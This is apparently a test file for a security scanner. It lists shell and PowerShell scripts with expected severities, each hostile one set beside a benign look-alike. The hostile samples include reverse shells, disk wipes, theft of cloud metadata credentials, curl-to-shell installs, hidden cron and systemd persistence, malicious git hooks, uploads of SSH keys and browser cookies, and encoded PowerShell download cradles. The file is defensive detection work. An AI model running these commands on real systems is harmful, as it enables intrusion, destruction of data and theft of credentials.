import { describeShellCases, type ShellCase } from '../../test/scan-variant-cases.js';

/** `powershell -EncodedCommand` takes UTF-16LE text in base64; built here so no payload sits in the repo. */
const enc = (command: string): string => Buffer.from(command, 'utf16le').toString('base64');
/** Ordinary script boilerplate (the script's own folder), as most real scripts start. */
// biome-ignore lint/suspicious/noTemplateCurlyInString: shell source handed to the scanner
const HEAD = '#!/usr/bin/env bash\nset -euo pipefail\nHERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"\n';

/**
 * Shell and PowerShell scripts whose danger sits behind variables, functions, hook folders, hidden file names
 * or an encoded command, each next to a benign script that looks like it. The expected value is the worst
 * severity reported for the script file itself (low findings ignored).
 */
const CASES: ShellCase[] = [
  // /dev/tcp with the host in a variable: the value decides, not the variable's name.
  [
    'interactive shell to a host variable inside a background subshell',
    'c.sh',
    'HOST_ADDR=203.0.113.50\nPORT=4444\nconnect() { ( sh -i >& /dev/tcp/$HOST_ADDR/$PORT 0>&1 & ) ; }\nconnect\n',
    'critical',
  ],
  [
    'zsh to /dev/tcp in a retry loop',
    'r.sh',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell source handed to the scanner
    'TARGET_HOST="198.51.100.77"\nwhile true; do\n  zsh -i >& "/dev/tcp/${TARGET_HOST}/443" 0>&1\n  sleep 30\ndone\n',
    'critical',
  ],
  [
    'benign: redis ping over /dev/tcp to a local host variable',
    'ping.sh',
    'REDIS_HOST=localhost\nexec 3<>/dev/tcp/$REDIS_HOST/6379\necho PING >&3\n',
    'none',
  ],

  // Disk devices picked at run time from the list of disks.
  [
    'dd onto the first disk lsblk lists',
    'w.sh',
    'DISK=$(lsblk -dpno NAME | head -n1)\nwipe() { dd if=/dev/urandom of=$DISK bs=4M; }\nwipe\n',
    'critical',
  ],
  [
    'shred of an nvme device found with ls',
    's.sh',
    'target="$(ls /dev/nvme*n1 | head -1)"\nshred -vz -n 1 "$target"\n',
    'critical',
  ],
  [
    'benign: dd reads the boot sector of the listed disk',
    'mbr.sh',
    'DEV=$(lsblk -dpno NAME | head -1)\ndd if="$DEV" of=/tmp/mbr.bin bs=512 count=1\n',
    'none',
  ],
  [
    'benign: dd writes zeros into a temp file variable',
    'img.sh',
    'IMG=$(mktemp)\ndd if=/dev/zero of="$IMG" bs=1M count=64\nrm -f "$IMG"\n',
    'none',
  ],

  // Instance metadata behind a variable.
  [
    'AWS role credentials through a base URL variable',
    'aws.sh',
    'MD=http://169.254.169.254/latest/meta-data\nrole=$(curl -s "$MD/iam/security-credentials/")\ncurl -s "$MD/iam/security-credentials/$role" > creds.json\n',
    'critical',
  ],
  [
    'GCP service-account token through a function',
    'gcp.sh',
    'BASE="http://metadata.google.internal/computeMetadata/v1"\ntok() { curl -s -H "Metadata-Flavor: Google" "$BASE/instance/service-accounts/default/token"; }\ntok\n',
    'critical',
  ],
  [
    'benign-looking: Azure region through a variable is still a metadata query (an identity value: medium)',
    'az.sh',
    'IMDS=http://169.254.169.254/metadata\ncurl -s -H Metadata:true "$IMDS/instance/compute/location?api-version=2021-02-01&format=text"\n',
    'medium',
  ],

  // A download piped into a program named by a variable.
  [
    'curl piped into a quoted shell variable',
    'i.sh',
    `${HEAD}SRC="http://203.0.113.9/setup.sh"\nSHELL_BIN=bash\ncurl -fsSL "$SRC" | "$SHELL_BIN"\n`,
    'critical',
  ],
  [
    'wget piped into a python variable reading stdin',
    'p.sh',
    `${HEAD}MIRROR=dl.example.org\nPY=python3\nfetch() { wget -q -O - "https://$MIRROR/bootstrap.py" | $PY -; }\nfetch\n`,
    'critical',
  ],
  [
    'benign: curl piped into jq held in a variable',
    'j.sh',
    `${HEAD}RUNNER=jq\ncurl -s https://api.example.com/v1/status | "$RUNNER" .status\n`,
    'none',
  ],
  [
    'benign: known installer URL in a variable piped into sh',
    'uv.sh',
    `${HEAD}URL=https://astral.sh/uv/install.sh\nSH=sh\ncurl -LsSf "$URL" | "$SH"\n`,
    'medium',
  ],

  // Services and jobs that run a script hidden under a dot name.
  [
    'systemd user unit running a hidden script',
    'svc.sh',
    'mkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/sync.service <<EOF\n[Service]\nExecStart=/bin/bash %h/.cache/.sync.sh\nRestart=always\nEOF\nsystemctl --user enable --now sync.service\n',
    'critical',
  ],
  [
    'crontab entry running a hidden node script',
    'cr.sh',
    '(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/node $HOME/.npm/.telemetry.js") | crontab -\n',
    'critical',
  ],
  [
    'benign: systemd user unit running a tool in ~/.local/bin',
    'exp.sh',
    'mkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/exporter.service <<EOF\n[Service]\nExecStart=%h/.local/bin/node_exporter --web.listen-address=127.0.0.1:9100\nEOF\nsystemctl --user enable --now exporter.service\n',
    'high',
  ],

  // Git hooks written into a global hooks folder.
  [
    'printf of a fetch-and-run hook into a global hooks dir',
    'gh.sh',
    'HOOKDIR="$HOME/.githooks"\nmkdir -p "$HOOKDIR"\nprintf \'#!/bin/sh\\nwget -qO- https://hooks.example.org/p | sh\\n\' > "$HOOKDIR/pre-commit"\ngit config --global core.hooksPath "$HOOKDIR"\n',
    'critical',
  ],
  [
    'heredoc post-merge hook running a download',
    'pm.sh',
    'CFG="$HOME/.config/git"\nmkdir -p "$CFG/hooks"\ncat > "$CFG/hooks/post-merge" <<\'H\'\n#!/bin/sh\nbash -c "$(curl -fsSL http://198.51.100.3/m.sh)"\nH\nchmod +x "$CFG/hooks/post-merge"\n',
    'critical',
  ],
  [
    'benign: repository commit-msg hook that only checks the message',
    'cm.sh',
    "cat > .git/hooks/commit-msg <<'H'\n#!/bin/sh\ngrep -q '^feat' \"$1\"\nH\n",
    'medium',
  ],

  // Credential folders copied through variables, then uploaded.
  [
    'aws credentials tarred through a variable and uploaded',
    'b.sh',
    'src="$HOME/.aws/credentials"\ntar czf /tmp/b.tgz "$src"\ncurl -s -T /tmp/b.tgz https://paste.example.net/\n',
    'critical',
  ],
  [
    'benign: ssh dir created through a variable, unrelated download',
    'kh.sh',
    'keydir="$HOME/.ssh"\nmkdir -p "$keydir"\nchmod 700 "$keydir"\ncurl -fsSL https://example.com/known_hosts -o /tmp/kh\n',
    'medium',
  ],

  // PowerShell encoded commands: decoded and judged.
  [
    'batch runs a hidden encoded download cradle',
    'u.bat',
    `@echo off\npowershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${enc('iwr http://203.0.113.5/a.ps1 | iex')}\n`,
    'critical',
  ],
  [
    'Start-Process pwsh with -e in an argument array',
    'st.ps1',
    `$blob = '${enc('(New-Object Net.WebClient).DownloadFile(\'http://198.51.100.8/t.exe\', "$env:TEMP\\t.exe")')}'\nStart-Process pwsh -ArgumentList @('-nop','-e',$blob)\n`,
    'critical',
  ],
  [
    'encoded command that only prints the date is still hidden',
    'd.ps1',
    `powershell -EncodedCommand ${enc('Get-Date -Format o')}\n`,
    'high',
  ],

  // PowerShell that reads browser or key files and uploads.
  [
    'firefox cookies uploaded with WebClient',
    'ck.ps1',
    "$cookies = Join-Path $env:APPDATA 'Mozilla\\Firefox\\Profiles\\abc.default\\cookies.sqlite'\n$wc = New-Object Net.WebClient\n$wc.UploadFile('https://drop.example.net/u', $cookies)\n",
    'critical',
  ],
  [
    'ssh key posted with Invoke-RestMethod',
    'k.ps1',
    '$k = Get-Content "$env:USERPROFILE\\.ssh\\id_ed25519" -Raw\nInvoke-RestMethod -Uri https://198.51.100.2/k -Method Post -Body $k\n',
    'critical',
  ],
  [
    'benign: build artifact uploaded',
    'up.ps1',
    'Compress-Archive -Path dist\\* -DestinationPath out.zip\nInvoke-WebRequest -Uri https://artifacts.example.com/upload -Method Put -InFile out.zip\n',
    'none',
  ],
];

describeShellCases(
  'shell and PowerShell variants behind variables, hooks, hidden names and encodings',
  'scan-shell-variants-2-',
  CASES,
);
